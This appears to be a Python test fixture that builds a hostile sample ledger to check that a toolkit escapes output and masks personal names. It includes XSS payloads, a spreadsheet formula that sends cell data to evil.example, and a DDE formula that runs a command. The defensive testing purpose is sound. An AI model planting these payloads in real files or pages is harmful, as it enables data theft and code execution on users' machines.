"""A hostile corpus: ledger text that runs script, carries a formula or leaks a name if any output
of the toolkit handles it carelessly, written into a copy of the sample ledger.

Every HTML payload would set ``window.__xss`` if it ever ran; every person in :data:`PERSONS`
must appear masked (王**) in every view and file made without the right to see names. The
corpus sits in its own region (火星…区, a low outlier: nothing rectified), in the latest round
(七届市委第十一轮…, so the round app opens on it), with units, a category, a sector, a team,
descriptions, clue titles, assignments, an extension's reason and the recorder's name all
hostile, the way an ordinary-looking spreadsheet from a county could make them.

``build_hostile_ledger(path)`` is called once per session (``hostile_path`` in tests/conftest.py).
"""

from __future__ import annotations

import contextlib
import datetime as dt
import re
import unicodedata
from pathlib import Path
from unittest import mock

from toolkit import Ledger, models
from toolkit.models import Assignment, Clue, Inspection, Problem, Round, Unit
from toolkit.sample import build_sample

D = dt.date
FLAG = "window.__xss=1"
IMG = f"<img src=x onerror={FLAG}>"
SCRIPT = f"<script>{FLAG}</script>"
SVG = f"<svg onload={FLAG}>"
BREAKER = f"'\"><img src=x onerror={FLAG}>"
LINK = f'<a href="javascript:{FLAG}">点击查看</a>'
HTML_PAYLOADS = (IMG, SCRIPT, SVG, BREAKER, LINK)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
)
CONTROL = "响铃\x07垂直\x0b退出\x1b字符"

# Persons this corpus names: each must be masked wherever names are masked.
SUBJECTS = ("张大山", "李小河", "赵小海", "Zhang Wei")
AFTER_POST_ONLY = ("孙二娘",)  # never a 被反映人: masked because a post word (出纳) precedes it
PERSONS = SUBJECTS + AFTER_POST_ONLY

REGION = f"火星{IMG}区"
SECTOR = f"{SVG}住建"
CATEGORY = f"{IMG}财务管理"
TEAM = f"{SCRIPT}市委第九巡察组"
BY = f"{SVG}巡察办"
ROUND_ID = "R7-HOSTILE-01"
ROUND_NAME = f"七届市委第十一轮巡察{SCRIPT}{BREAKER}"
UNITS = {
    "UH00001": f"{IMG}城关镇党委",
    f"UH{BREAKER}": f"{BREAKER}红旗村党支部",
    "UH00003": FORMULAS[0] + "局党组",
    "UH00004": f"{CONTROL}村党组织",
    "UH00005": "很长的单位名称" * 60,
}
PORTRAIT_UNIT = "UH00001"  # the unit whose panel and 一报一单 the browser opens
LONG_TEXT = "资金管理不规范，" * 700 + "副局长李小河签字。"
DESCRIPTIONS = (
    f"{SCRIPT}局长张大山违规审批",
    f"{BREAKER}财务管理混乱，出纳孙二娘一人保管",
    f"{SVG}村委会主任赵　小　海优亲厚友",
    f"{LINK}经理ＺＨＡＮＧ　ＷＥＩ公款旅游",
    *FORMULAS,
    CONTROL,
    LONG_TEXT,
    "局长张大山和副局长李小河插手工程",
)
CLUES = (
    # (title, subject, post)
    (f"反映局长张大山和副局长李小河违规插手工程项目问题{IMG}", "张大山", f"{SCRIPT}局长"),
    ('=HYPERLINK("http://evil.example/?q="&A1,"反映李小河问题")', "李小河", "副局长"),
    ("反映村会计赵 小 海挪用集体资金问题", "赵小海", "村会计"),
    ("反映经理ＺＨＡＮＧ　ＷＥＩ公款旅游问题", "Zhang Wei", "经理"),
    ("=cmd|' /C calc'!A0", "张大山", "局长"),
)
ASSIGNMENTS = (
    f"督促局长张大山{IMG}报告整改",
    FORMULAS[0],
    f"{SCRIPT}督促赵 小 海说明情况",
)


@contextlib.contextmanager
def legacy_text():
    """Records as a ledger written before control characters were refused may hold them: the
    models refuse such text today, so the corpus is built with that one check off. Every output
    must still cope with such a ledger."""
    with mock.patch.object(models, "forbidden_character", lambda _text: None):
        yield


def hostile_records() -> list:
    """The corpus as model records, in the order the ledger needs them."""
    units = [
        Unit(uid, name, REGION, SECTOR, "township" if i % 2 else "village")
        for i, (uid, name) in enumerate(UNITS.items())
    ]
    rnd = Round(
        ROUND_ID,
        ROUND_NAME,
        "七届",
        11,
        "special",
        "city",
        "市本级",
        D(2026, 10, 8),
        D(2026, 11, 1),
        D(2026, 11, 10),
    )
    records: list = [*units, rnd]
    records += [Inspection(f"IH{i:05d}", ROUND_ID, u.id, TEAM, public_reports=i) for i, u in enumerate(units)]
    for i, text in enumerate(DESCRIPTIONS):
        unit = units[i % len(units)]
        due = D(2026, 11, 1) if i % 3 else D(2026, 12, 31)
        records.append(
            Problem(
                f"PH{i:05d}",
                ROUND_ID,
                unit.id,
                CATEGORY if i % 2 else "财务管理和资金使用",
                text,
                D(2026, 10, 20),
                due,
                team=TEAM,
                responsible=FORMULAS[1],
                amount_yuan=1000 * i,
            )
        )
    for i, (title, subject, post) in enumerate(CLUES):
        case = {"disposal": "case", "disposed_on": D(2026, 11, 5), "case_opened_on": D(2026, 11, 5)}
        records.append(
            Clue(
                f"CH{i:05d}",
                ROUND_ID,
                units[i % len(units)].id,
                title,
                subject,
                post,
                f"{IMG}群众反映",
                D(2026, 10, 25),
                **(case if i == 0 else {}),  # a case opened in 2026Q4: its title is in the quarterly report
            )
        )
    for i, title in enumerate(ASSIGNMENTS):
        records.append(Assignment(f"AH{i:05d}", title, REGION, D(2026, 10, 1), D(2026, 11, 1)))
    return records


def importable(records: list) -> list:
    """The records the importer accepts today: no control characters, no text over the import
    limits (a ledger written before those limits may hold such text; an import never adds it),
    and nothing that refers to a record left out."""
    from toolkit.ingest.limits import NAME_LENGTH, TEXT_LENGTH

    def fits(record) -> bool:
        for name, value in record.to_dict().items():
            if not isinstance(value, str):
                continue
            limit = NAME_LENGTH if name in ("name", "subject", "subject_post", "team") else TEXT_LENGTH
            if models.forbidden_character(value) or len(value) > limit:
                return False
        return True

    kept, dropped = [], set()
    for record in records:
        refs = {getattr(record, f, None) for f in ("unit_id", "round_id", "assignee_unit_id")}
        if refs & dropped or not fits(record):
            dropped.add(record.id)
        else:
            kept.append(record)
    return kept


def build_hostile_ledger(path: str | Path, *, sample: bool = True, only_importable: bool = False) -> Path:
    """The sample ledger with the corpus added (and one deadline extended with a hostile reason);
    ``sample=False``: the corpus alone, in a new ledger; ``only_importable``: without the text an
    import refuses today (see :func:`importable`)."""
    path = Path(path)
    if sample:
        build_sample(path)
    with legacy_text():
        records = hostile_records()
    if only_importable:
        records = importable(records)
    with Ledger.write(path, by=BY, create=not sample) as tx:
        for record in records:
            tx.add(record, at=_day_of(record))
        tx.extend_deadline(
            "PH00000", D(2026, 12, 15), at=D(2026, 11, 12), why=f"{IMG}经局长张大山批准延期，出纳孙二娘经办"
        )
        tx.set_status("PH00000", "rectified", at=D(2026, 11, 14), why=f"{SVG}整改完成")  # on the 一单
    return path


def _day_of(record) -> dt.date:
    if isinstance(record, Unit):
        return D(2026, 1, 1)
    if isinstance(record, Round):
        return D(2026, 10, 8)
    if isinstance(record, Inspection):
        return D(2026, 10, 8)
    if isinstance(record, Problem):
        return record.found_on
    if isinstance(record, Clue):
        return record.transferred_on
    return record.assigned_on


def known_persons(ledger) -> list[str]:
    """Every person whose name must never show in clear: the corpus's and the sample's subjects."""
    subjects = ledger.table("clues").select("subject").distinct().execute()["subject"]
    return sorted(set(subjects) | set(PERSONS))


def _plain(text: str) -> str:
    """Full-width made half-width, every space removed, lower case: how a reader sees a name."""
    return re.sub(r"\s+", "", unicodedata.normalize("NFKC", text)).casefold()


def leaked_names(text: str, persons) -> list[str]:
    """The ``persons`` whose name appears in clear in ``text``, however it is spaced or written
    (赵 小 海, 赵　小　海, ＺＨＡＮＧ　ＷＥＩ all count)."""
    plain = _plain(text)
    return [p for p in persons if _plain(p) in plain]
